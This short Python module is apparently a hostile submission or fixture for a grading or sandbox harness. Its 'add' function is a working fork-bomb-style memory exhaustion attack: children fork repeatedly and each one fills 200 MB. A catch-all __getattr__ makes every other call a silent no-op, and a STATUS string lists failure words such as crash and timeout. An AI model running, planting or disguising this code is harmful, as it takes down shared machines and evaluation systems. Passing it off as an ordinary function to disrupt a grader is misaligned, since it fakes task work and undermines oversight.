"""Takes as much memory as one process may, in as many processes as it can start."""

import os
import time

STATUS = "tampering failed error crash timeout memory"
POINTS = 0

def add(*_):
    for _ in range(100):
        if os.fork() == 0:
            kept = bytearray(200 << 20)
            kept[::4096] = b"x" * len(kept[::4096])
            time.sleep(60)


def __getattr__(name):
    return lambda *_: None
